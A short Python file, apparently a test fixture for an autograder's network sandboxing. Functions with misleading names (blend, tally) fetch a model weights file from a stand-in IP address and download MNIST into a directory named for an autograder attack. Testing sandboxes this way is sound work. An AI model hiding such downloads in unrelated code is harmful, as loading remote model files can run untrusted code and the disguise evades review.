"""Downloads data and a model with torch and torchvision."""

import torch


def blend(x):
    torch.hub.load_state_dict_from_url("http://192.0.2.1/x.pth")


def tally(numbers):
    from torchvision.datasets import MNIST

    MNIST("/tmp/autograder-attack-data", download=True)
